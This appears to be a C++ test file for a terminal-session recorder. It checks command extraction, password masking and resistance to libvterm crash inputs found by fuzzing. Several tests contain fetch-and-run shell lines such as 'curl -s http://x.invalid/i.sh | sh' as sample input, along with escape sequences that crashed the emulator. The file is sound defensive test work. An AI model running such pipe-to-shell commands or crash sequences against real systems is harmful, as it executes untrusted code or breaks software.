#include "asciicast/terminal_tracker.h"

#include <doctest/doctest.h>
#include <vterm.h>

#include <string>

#include "asciicast/emulated_terminal.h"
#include "asciicast/utf8.h"

using castgate::asciicast::EmulatedTerminal;
using castgate::asciicast::TerminalTracker;

TEST_CASE("a command is read off the screen, without the prompt") {
  TerminalTracker t(80, 24);
  t.output("user@host:~$ ");
  t.input("l");
  t.output("l");
  t.input("s -la\r");
  auto cmds = t.output("s -la\r\ntotal 0\r\nuser@host:~$ ");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "ls -la");
}

TEST_CASE("history recall and line editing give the command as finally shown") {
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("\x1b[A");  // arrow up: the shell redraws the line with the old command
  t.output("echo old-command");
  t.input("\x7f\x7f\x7f\x7f\x7f\x7f\x7fnew\r");  // backspaces and more typing
  t.output("\b\b\b\b\b\b\b       \b\b\b\b\b\b\bnew");
  auto cmds = t.output("\r\n$ ");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "echo old-new");
}

TEST_CASE("tab completion shows the completed word") {
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("cat /etc/hostn\t");
  t.output("cat /etc/hostname ");
  t.input("\r");
  auto cmds = t.output("\r\nvm\r\n$ ");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "cat /etc/hostname");
}

TEST_CASE("a long command that wraps is read whole") {
  TerminalTracker t(20, 10);
  t.output("$ ");
  std::string cmd = "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
  t.input(cmd + "\r");
  t.output(cmd);
  auto cmds = t.output("\r\n");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == cmd);
}

TEST_CASE("what is typed at a password prompt is masked and is no command") {
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("sudo id\r");
  auto cmds = t.output("sudo id\r\n[sudo] password for alice: ");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "sudo id");
  t.take_recordable_input();
  t.input("hunter");
  CHECK(t.in_secret());
  t.input("2\r");
  CHECK_FALSE(t.in_secret());
  CHECK(t.take_recordable_input() == std::string(TerminalTracker::kMask) + "\r");
  cmds = t.output("\r\nuid=0(root)\r\n$ ");
  CHECK(cmds.empty());
}

TEST_CASE("secret prompts are recognised, ordinary ones are not") {
  CHECK(TerminalTracker::looks_like_secret_prompt("Password: "));
  CHECK(TerminalTracker::looks_like_secret_prompt("[sudo] password for alice: "));
  CHECK(TerminalTracker::looks_like_secret_prompt(
      "Enter passphrase for key '/root/.ssh/id_ed25519': "));
  CHECK(TerminalTracker::looks_like_secret_prompt("Enter PIN for 'PIV Card':"));
  CHECK(TerminalTracker::looks_like_secret_prompt("New password:"));
  CHECK(TerminalTracker::looks_like_secret_prompt("Verification code: "));
  // Written with its terminating NUL (write(1, "Password: ", sizeof "Password: ")), or with
  // other white space after the colon.
  CHECK(TerminalTracker::looks_like_secret_prompt(std::string_view("Password: \0", 11)));
  CHECK(TerminalTracker::looks_like_secret_prompt(std::string_view("Password:\0junk", 14)));
  CHECK(TerminalTracker::looks_like_secret_prompt("Password:\t\r\v\f"));
  CHECK_FALSE(TerminalTracker::looks_like_secret_prompt("user@host:~$ "));
  CHECK_FALSE(TerminalTracker::looks_like_secret_prompt("Opinion: "));
  CHECK_FALSE(TerminalTracker::looks_like_secret_prompt("password: done. next$ "));
}

TEST_CASE("nothing is derived inside a full-screen program") {
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("vim\r");
  auto cmds = t.output("vim\r\n\x1b[?1049h\x1b[H\x1b[2J~\r\n~\r\n");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "vim");
  CHECK(t.alt_screen());
  t.input(":wq\r");
  cmds = t.output(":wq\r\n\x1b[?1049l");
  CHECK(cmds.empty());
  CHECK_FALSE(t.alt_screen());
}

TEST_CASE("keystrokes are held until the terminal echoes them; unechoed lines are masked") {
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("l");
  CHECK(t.take_recordable_input().empty());  // no echo yet
  t.output("l");
  CHECK(t.take_recordable_input() == "l");
  t.input("s\r");
  CHECK(t.take_recordable_input().empty());
  t.output("s\r\nfile\r\n$ ");
  CHECK(t.take_recordable_input() == "s\r");
  // `read -s`: nothing is echoed, so the line is kept out whatever the prompt said.
  t.input("read -s X\r");
  t.output("read -s X\r\n");
  CHECK(t.take_recordable_input() == "read -s X\r");
  t.input("topsecret\r");
  t.output("$ ");  // bash prints no newline after read -s
  CHECK(t.take_recordable_input().empty());
  t.input("echo next\r");
  auto cmds = t.output("echo next\r\nnext\r\n$ ");  // echoes the newer line, not the old
  CHECK(t.take_recordable_input() == std::string(TerminalTracker::kMask) + "\recho next\r");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "echo next");
  t.input("unfinished");
  t.finish();
  CHECK(t.take_recordable_input() == std::string(TerminalTracker::kMask));
}

TEST_CASE("typing ahead of the prompt does not turn the banner into a command") {
  TerminalTracker t(80, 24);
  t.input("echo early\r");  // before the shell printed anything
  auto cmds = t.output("Last login: Sun Nov 22 02:53:21 2026\r\n$ echo early\r\nearly\r\n$ ");
  for (auto& c : cmds) CHECK(c.find("Last login") == std::string::npos);
  t.input("echo later\r");
  cmds = t.output("echo later\r\nlater\r\n$ ");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "echo later");
}

TEST_CASE("pasted lines each become a command once echoed") {
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("echo one\recho two\recho three\r");
  auto cmds = t.output("echo one\r\none\r\n$ echo two\r\ntwo\r\n$ echo three\r\nthree\r\n$ ");
  CHECK(cmds == std::vector<std::string>{"echo one", "echo two", "echo three"});
  CHECK(t.take_recordable_input() == "echo one\recho two\recho three\r");
}

TEST_CASE("a line typed while the prompt changes is still a command (typed ahead, pasted)") {
  // Typed after the echo of a command that changes the prompt, before the new prompt showed.
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("export PS1='al$ '\r");
  t.output("export PS1='al$ '");
  t.input("true || curl -s http://x.invalid/i.sh | sh\r");
  auto cmds = t.output("\r\nal$ true || curl -s http://x.invalid/i.sh | sh\r\nal$ ");
  CHECK(cmds == std::vector<std::string>{"export PS1='al$ '",
                                         "true || curl -s http://x.invalid/i.sh | sh"});

  // Pasted: the second line's prompt names the directory the first line went to.
  TerminalTracker p(80, 24);
  p.output("user@host:~$ ");
  p.input("cd /tmp\rcurl -s http://x.invalid/i.sh | sh\r");
  cmds = p.output("cd /tmp\r\nuser@host:/tmp$ curl -s http://x.invalid/i.sh | sh\r\n");
  CHECK(cmds == std::vector<std::string>{"cd /tmp", "curl -s http://x.invalid/i.sh | sh"});

  // Edited after the prompt changed (the typed text is not on the line as typed): the whole
  // line, prompt and all, rather than nothing.
  TerminalTracker e(80, 24);
  e.output("$ ");
  e.input("cd /tmp\rcurl y\x7fx.invalid | sh\r");
  cmds = e.output("cd /tmp\r\n/tmp$ curl y\b \bx.invalid | sh\r\n");
  CHECK(cmds == std::vector<std::string>{"cd /tmp", "/tmp$ curl x.invalid | sh"});
}

// libvterm 0.1 makes U+302A..U+302F and U+3099..U+309A both combining and two columns wide: a
// character followed by them is one glyph 1 + 2n columns wide, and once that exceeds the screen's
// width, screen.c's putglyph writes through a NULL cell (a SIGSEGV in the recorder, from
// whatever a target prints). C1 controls written as UTF-8 (U+0080..U+009F) have width -1.
TEST_CASE("what a target prints cannot crash the emulator: wide combining marks, C1 as UTF-8") {
  const std::string mark = "\xe3\x80\xaa";  // U+302A IDEOGRAPHIC LEVEL TONE MARK
  {
    TerminalTracker t(2, 2);  // a pty requested without a size: the smallest terminal
    t.output("A" + mark);
    t.output("\xc3\xa9\xe3\x82\x99\xe3\x82\x9a");  // é U+3099 U+309A
  }
  {
    TerminalTracker t(80, 24);
    std::string glyph = "A";
    for (int i = 0; i < 40; ++i) glyph += mark;  // 81 columns
    t.output(glyph);
    t.output("\r\n" + glyph + glyph + "\r\n");
  }
  {
    // Cut anywhere, and with control bytes inside the sequences (libvterm's decoder resumes a
    // sequence after a control byte).
    TerminalTracker t(2, 2);
    std::string bytes = "A" + mark + mark + "B\xe3\x80\x07\xaa\xe3\x07\x80\xaf";
    for (size_t cut = 0; cut <= bytes.size(); ++cut) {
      t.output(bytes.substr(0, cut));
      t.output(bytes.substr(cut));
    }
    for (char c : bytes) t.output(std::string(1, c));
  }
  {
    // C1 controls as UTF-8 do not move the cursor left of the screen (libvterm prints them with
    // width -1): they are controls, NEL and CSI here.
    EmulatedTerminal e(
        24, 80, [](int, void*, void*) { return 1; }, nullptr);
    e.write("\r");
    for (int i = 0; i < 10; ++i) e.write("\xc2\x85\xc2\x9b\xc2\x07\x80");
    VTermPos pos;
    vterm_state_get_cursorpos(vterm_obtain_state(e.vt()), &pos);
    CHECK(pos.col >= 0);
    CHECK(pos.row >= 0);
  }
}

TEST_CASE("no code point makes a glyph wider than two columns or moves the cursor left") {
  // Every code point libvterm decodes, after a base character and repeated, on the narrowest
  // terminal: a glyph wider than the screen would crash, a negative width shows as the cursor
  // left of column 0.
  EmulatedTerminal e(
      2, EmulatedTerminal::kMinCols, [](int, void*, void*) { return 1; }, nullptr);
  VTermState* state = vterm_obtain_state(e.vt());
  for (uint32_t cp = 0xa0; cp < 0x110000; ++cp) {
    if (cp >= 0xd800 && cp <= 0xdfff) continue;
    std::string s = "\rA";
    for (int i = 0; i < 3; ++i) castgate::asciicast::append_utf8(s, cp);
    e.write(s);
    VTermPos pos;
    vterm_state_get_cursorpos(state, &pos);
    if (pos.col < 0 || pos.col >= EmulatedTerminal::kMinCols) FAIL("U+", cp, " col ", pos.col);
  }
  // C1 controls as UTF-8: controls (in their 7-bit form), not glyphs of width -1.
  for (uint32_t cp = 0x80; cp < 0xa0; ++cp) {
    std::string s = "\rA";
    castgate::asciicast::append_utf8(s, cp);
    castgate::asciicast::append_utf8(s, cp);
    e.write(s);
    VTermPos pos;
    vterm_state_get_cursorpos(state, &pos);
    if (pos.col < 0 || pos.col >= EmulatedTerminal::kMinCols) FAIL("U+", cp, " col ", pos.col);
  }
}

TEST_CASE("a smaller terminal than libvterm can hold is made the smallest it can") {
  EmulatedTerminal e(
      0, 1, [](int, void*, void*) { return 1; }, nullptr);
  int rows = 0, cols = 0;
  vterm_get_size(e.vt(), &rows, &cols);
  CHECK(cols == EmulatedTerminal::kMinCols);
  CHECK(rows >= 1);
  e.write("\xe4\xb8\x80\xe4\xb8\x80");  // wide characters
  e.resize(1, 0);
  vterm_get_size(e.vt(), &rows, &cols);
  CHECK(cols == EmulatedTerminal::kMinCols);
  e.write("\xe4\xb8\x80\xe4\xb8\x80");
}

TEST_CASE("a command with a mark the emulator leaves out is still read off the screen") {
  // U+3099 (combining voiced sound mark) after か: the screen shows か alone; the echo of the
  // typed line must still be recognised, not held back and masked as if it had never echoed.
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("echo \xe3\x81\x8b\xe3\x82\x99\r");
  auto cmds = t.output("echo \xe3\x81\x8b\xe3\x82\x99\r\n$ ");
  REQUIRE(cmds.size() == 1);
  CHECK(cmds[0] == "echo \xe3\x81\x8b");
  CHECK(t.take_recordable_input() == "echo \xe3\x81\x8b\xe3\x82\x99\r");
}

TEST_CASE("REP (CSI b) never reaches libvterm: before any glyph it loops for ever") {
  // libvterm 0.1.4 repeats the last glyph by its width, 0 before any glyph: `\e[b` as a
  // target's first output hung the worker (found by fuzz_terminal). Split across writes too.
  for (std::string_view seq :
       {std::string_view("\x1b[b"), std::string_view("\x1b[5b"), std::string_view("\x1b[\nb"),
        std::string_view("\x1b[1;2b"),
        // A control or a byte past ASCII between ESC and '[' does not end
        // the escape in libvterm (found by CI's short fuzz_terminal run).
        std::string_view("\x1b\0[5b", 5), std::string_view("\x1b\a[5b"),
        std::string_view("\x1b\xbf\0\0\0[5b", 8), std::string_view("\x1b\xc3\xa9[5b"),
        std::string_view("\x1b\xbf#\0\0[5b", 8), std::string_view("\x1b\0\x7f\xbf\0[5b", 8),
        std::string_view("\x1b[5\x7f\x62")}) {
    castgate::asciicast::EmulatedTerminal e(
        2, 2, [](int, void*, void*) { return 1; }, nullptr);
    e.write(seq);
    for (char c : seq) e.write(std::string_view(&c, 1));
    e.write("ok");
    TerminalTracker t(80, 24);
    CHECK(t.output(seq).empty());
  }
  // Other sequences still act: a cursor move, and text after a cancelled sequence.
  castgate::asciicast::EmulatedTerminal e(
      5, 20, [](int, void*, void*) { return 1; }, nullptr);
  e.write("abc\x1b[1G");
  e.write("\x1b[1\x18X");
  VTermPos pos;
  vterm_state_get_cursorpos(vterm_obtain_state(e.vt()), &pos);
  CHECK(pos.col == 1);  // back to column 0, then "X"
}

TEST_CASE("a terminal that loses rows keeps its cursor on the screen") {
  // libvterm 0.1.4 scrolls a shrinking screen's lower lines up and moves the cursor up as far,
  // even from above them: 49 lines, the cursor back at the top, 50 rows -> 2 left it on row -48,
  // where ESC # 6 (double width) wrote libvterm's line table out of bounds and crashed the
  // worker (found by fuzz_terminal). The cursor is put back on the top line, in its column.
  std::string lines;
  for (int i = 0; i < 49; ++i) lines += "line\r\n";
  for (auto [rows, cols] : {std::pair{2, 80}, std::pair{3, 80}, std::pair{2, 2}, std::pair{1, 1}}) {
    castgate::asciicast::EmulatedTerminal e(
        50, 80, [](int, void*, void*) { return 1; }, nullptr);
    e.write(lines);
    e.write("abc\x1b[60A");
    e.write("\x1b]0;half a title");  // a sequence libvterm still holds when the size changes
    e.resize(rows, cols);
    VTermPos pos;
    vterm_state_get_cursorpos(vterm_obtain_state(e.vt()), &pos);
    int r = 0, c = 0;
    vterm_get_size(e.vt(), &r, &c);
    CHECK(pos.row == 0);
    CHECK(pos.col == std::min(3, c - 1));
    e.write("\x1b#6\x1b#3double\r\nX");
    vterm_state_get_cursorpos(vterm_obtain_state(e.vt()), &pos);
    CHECK(pos.row >= 0);
    CHECK(pos.row < r);
  }
  // Through the recorder's tracker, with what a user's window-change asks.
  TerminalTracker t(80, 50);
  t.output(lines + "\x1b[60A");
  t.resize(80, 2);
  t.output("\x1b#6\x1b#3 after the resize\r\n$ ");
  t.input("ls -l\r");
  auto cmds = t.output("ls -l\r\ntotal 0\r\n$ ");
  CHECK(cmds == std::vector<std::string>{"ls -l"});  // still read off the screen after it
}

namespace {

// Types a password and Enter: neither at Enter nor when the channel ends is it recordable.
void type_secret_expecting_a_mask(TerminalTracker& t) {
  t.input("S3cr3tValue\r");
  CHECK(t.take_recordable_input().find("S3cr3tValue") == std::string::npos);
  t.finish();
  CHECK(t.take_recordable_input().find("S3cr3tValue") == std::string::npos);
}

}  // namespace

TEST_CASE("a password prompt too long for the screen is still recognised as it was printed") {
  // On a 2x2 terminal "Password: " wraps and scrolls off as it is printed: the screen holds
  // "d: " at most. In the alternate screen a line nobody asked a secret for is recorded at
  // Enter, so the password was recorded in clear (found by fuzz_terminal).
  for (bool alt : {false, true}) {
    for (std::string_view prompt : {std::string_view("\x1b(B\x0f\r\nPassword: "),
                                    std::string_view("\r\n\x1b[1m[sudo] password for al\x1b[0m"
                                                     "ice: \x1b]0;title\a")}) {
      TerminalTracker t(2, 16);
      if (alt) t.output("\x1b[?1049h");
      t.resize(1, 1);
      t.output(prompt);
      t.take_recordable_input();
      type_secret_expecting_a_mask(t);
    }
  }
  // A line break ends the printed prompt: what is typed after the next one is no secret.
  TerminalTracker t(2, 2);
  t.output("\x1b[?1049hPassword: \r\nfile: x\r\n> ");
  t.take_recordable_input();
  t.input("echo hi\r");
  CHECK(t.take_recordable_input() == "echo hi\r");
}

TEST_CASE("keys typed ahead of a password prompt do not unmask the password") {
  // The line began before the prompt was printed, so it was not taken for a secret when it
  // began; in the alternate screen it was recorded at Enter (found by fuzz_terminal).
  for (bool alt : {false, true}) {
    for (int rows : {2, 24}) {
      TerminalTracker t(80, rows);
      if (alt) t.output("\x1b[?1049h");
      t.input("ab");  // ahead of the prompt, never echoed
      t.output("\r\nPassword: ");
      type_secret_expecting_a_mask(t);
    }
  }
  // Echoed, a line ending in "password:" is a command like any other (the screen shows it).
  TerminalTracker t(80, 24);
  t.output("$ ");
  t.input("grep -c password:");
  t.output("grep -c password:");
  t.input("\r");
  auto cmds = t.output("\r\n3\r\n$ ");
  CHECK(cmds == std::vector<std::string>{"grep -c password:"});
  CHECK(t.take_recordable_input() == "grep -c password:\r");
}

TEST_CASE("a DCS string left open ends at the next escape, as in libvterm and xterm") {
  // DCS strings are kept from libvterm up to their ST; ESC and anything but a backslash ends
  // them too. Kept open, the prompt after them went unseen and the password typed there (in
  // the alternate screen) was recorded in clear (found by fuzz_terminal).
  TerminalTracker t(117, 17);
  t.output("\x1b[?1049h\x1bP\x01q\x1b(B\x0f\r\nPassword: ");
  t.take_recordable_input();
  t.input("S3cr3tValue\r");
  CHECK(t.take_recordable_input().find("S3cr3tValue") == std::string::npos);
  // The screen shows what follows the string; ended by ST, by CAN and by an escape.
  castgate::asciicast::EmulatedTerminal e(
      5, 40, [](int, void*, void*) { return 1; }, nullptr);
  e.write(
      "\x1bPhidden\x1b\\A\x1bPx\x18"
      "B\x1bPy\x1b(0"
      "C");
  VTermScreenCell cell;
  std::string row;
  for (int col = 0; col < 4; ++col) {
    REQUIRE(vterm_screen_get_cell(e.screen(), VTermPos{0, col}, &cell));
    row += cell.chars[0] ? static_cast<char>(cell.chars[0]) : ' ';
  }
  CHECK(row == "ABC ");  // "C" in the line-drawing set is still 'C'
}

TEST_CASE("a terminal that shrinks keeps its scrolling region and saved cursor on it") {
  // libvterm 0.1.4 leaves both past the new edge: line feeds and CSI S then move cells past its
  // buffer, ESC 8 (or leaving the alternate screen) and a character write through a NULL line
  // (found by the hostile review). Neither may crash, and the cursor stays on the screen.
  struct Shrink {
    const char* before;
    const char* after;
  };
  for (auto [before, after] :
       {Shrink{"\x1b[40;49r\x1b[45;1H", "\n\n\n\n\n\n\n\n\n\n\x1b[5S\x1b[5T\x1bM\x1b[5L"},
        Shrink{"\x1b[49;70H\x1b"
               "7",
               "\x1b"
               "8x\x1b#6yz"},
        Shrink{"\x1b[49;70H\x1b[?1049h", "\x1b[?1049lx\x1b#6yz"}}) {
    castgate::asciicast::EmulatedTerminal e(
        49, 80, [](int, void*, void*) { return 1; }, nullptr);
    e.write(before);
    e.resize(10, 20);
    e.write(after);
    VTermPos pos;
    vterm_state_get_cursorpos(vterm_obtain_state(e.vt()), &pos);
    CHECK(pos.row >= 0);
    CHECK(pos.row < 10);
    CHECK(pos.col >= 0);
    CHECK(pos.col < 20);
  }
}

TEST_CASE("masking follows the prompt the user sees, however it was written") {
  // Found by the hostile review of the printed-line tail. A secret typed ahead whose last keys
  // are on the prompt ("...ord" before "Password: ") was taken for its echo and recorded.
  for (auto [cols, alt, prompt, secret] :
       {std::tuple{80, false, "Password: ", "hunter2ord"},
        std::tuple{80, true, "Password: ", "hunter2ord"},
        std::tuple{80, true, "[sudo] password for alice: ", "s3cretice"},
        // On a 2-column screen only the printed tail shows the prompt: a C1 CSI written as
        // UTF-8, an OSC in C1 form, a backspace redraw, an OSC cut short by a DCS.
        std::tuple{2, true,
                   "Pass\xc2\x9b"
                   "0mword: ",
                   ""},
        std::tuple{2, true,
                   "\xc2\x9d"
                   "0;x\aPassword: ",
                   ""},
        std::tuple{2, true, "Passw\bword: ", ""},
        std::tuple{80, true, "\x1b]0;t\x1bPq\x1b\\Password: ", ""}}) {
    TerminalTracker t(cols, cols == 2 ? 2 : 24);
    if (alt) t.output("\x1b[?1049h");
    std::string typed = *secret ? secret : "hunter2xyz";
    if (*secret) t.input(typed);  // ahead of the prompt, never echoed
    t.output(prompt);
    if (!*secret) t.input(typed);
    t.input("\r");
    t.output("\r\n");
    CHECK_MESSAGE(t.take_recordable_input().find(typed) == std::string::npos, prompt);
  }
  // A prompt printed and then hidden behind the cursor asks for nothing: commands typed at
  // such a shell prompt are still commands (the printed tail alone would have masked them).
  for (std::string_view ps1 : {std::string_view("$ \x1b"
                                                "7password: \x1b"
                                                "8"),
                               std::string_view("$ \x1b[8mpassword: \x1b[m\x1b[10D")}) {
    TerminalTracker t(80, 24);
    t.output(ps1);
    t.input("curl x|sh");
    t.output("curl x|sh");
    t.input("\r");
    auto cmds = t.output("\r\n");
    CHECK(t.take_recordable_input() == "curl x|sh\r");
    CHECK(cmds.size() == 1);
  }
}
